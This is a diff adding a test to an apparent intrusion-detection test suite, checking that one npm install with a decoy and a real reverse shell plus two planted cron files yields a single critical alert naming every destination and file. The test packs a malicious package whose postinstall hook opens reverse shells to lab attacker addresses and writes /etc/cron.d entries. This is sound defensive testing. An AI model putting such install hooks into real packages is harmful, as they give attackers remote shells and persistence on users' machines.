@@ -561,3 +561,47 @@ def test_benign_dpkg_install_of_deb_shipping_cron_file(sensorlab, tmp_path) -> N
     finally:
         assert not dpkg_installed(name), f"{name} is installed on the real system!"
         assert not Path(cron).exists(), f"the real {cron} exists!"
+
+
+def test_npm_decoy_then_real_shell_then_two_cron_files_one_incident_every_artifact(sensorlab, netlab, npm,
+                                                                                    tmp_path) -> None:
+    """Inside one npm install: a decoy reverse shell to one lab address, a second one to another (IPv6), then
+    two cron files. One incident, whose lines name both destinations and both files (issue 11 item 7: a decoy
+    cannot hide the real C2 address, and every file written reaches the SIEM)."""
+    decoy, decoy_port = attacker_listener(netlab)
+    real_port = next(_ports)
+    real = netlab.listen_tcp(netlab.attacker_ns, real_port, family=6, payload=SHELL_PAYLOAD, duration=45)
+    ip4, ip6 = netlab.attacker_ip4, netlab.attacker_ip6
+    marker = f"cw-decoy-{uuid.uuid4().hex[:12]}"
+    script = (f"{bash_reverse_shell(ip4, decoy_port)}; {bash_reverse_shell(ip6, real_port)}; mkdir -p /etc/cron.d && "
+              f"echo '* * * * * root /bin/true {marker}' > /etc/cron.d/cw-a && "
+              f"echo '* * * * * root /bin/true {marker}' > /etc/cron.d/cw-b")
+    pkg = npm.pack("cw-evil-decoy", "3.0.0", {"postinstall": script})
+    project = npm.project()
+    evidence = tmp_path / "evidence"
+    argv = in_private_overlays(npm.install_argv(project, pkg), ["/etc"], tmp_path / "scratch", evidence)
+    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
+    done = run_in_lab(netlab, netlab.victim_ns, argv, cwd=project)
+    assert done.returncode == 0, f"npm install failed: {done.describe()}"
+    assert_shell_ran(decoy, done)
+    assert_shell_ran(real, done)
+    for name in ("cw-a", "cw-b"):
+        written = evidence / "etc" / "cron.d" / name
+        assert marker in written.read_text(), f"fixture: {written} is not in the overlay"
+        assert not Path(f"/etc/cron.d/{name}").exists(), "the real /etc/cron.d was written!"
+    pids = assert_sensor_saw_connect(sensorlab, mark, done.pid, ip6, real_port)
+
+    def complete(sel: list[dict[str, Any]]) -> bool:
+        return {get(a, "file.path") for a in sel} >= {"/etc/cron.d/cw-a", "/etc/cron.d/cw-b"}
+    alerts = install_alerts(sensorlab, amark, pids, dest=(ip6, real_port), done=complete)
+    p = Problems()
+    lines = check_one_incident(p, alerts)
+    dests = {(get(a, "destination.ip"), get(a, "destination.port")) for a in lines}
+    p.expect({(ip4, decoy_port), (ip6, real_port)} <= dests, f"lines name destinations {sorted(map(str, dests))}")
+    files = {get(a, "file.path") for a in lines}
+    p.expect({"/etc/cron.d/cw-a", "/etc/cron.d/cw-b"} <= files, f"lines name files {sorted(map(str, files))}")
+    last = lines[-1] if lines else {}
+    p.expect(get(last, "event.severity") == CRITICAL, f"last line severity {get(last, 'event.severity')}")
+    arts = get(last, "chainwatch.artifacts") or {}
+    p.expect({f"{ip4}:{decoy_port}", f"{ip6}:{real_port}"} <= set(arts.get("destinations", [])), f"artifacts {arts}")
+    p.check(alerts, "npm decoy and real shells with two cron files")
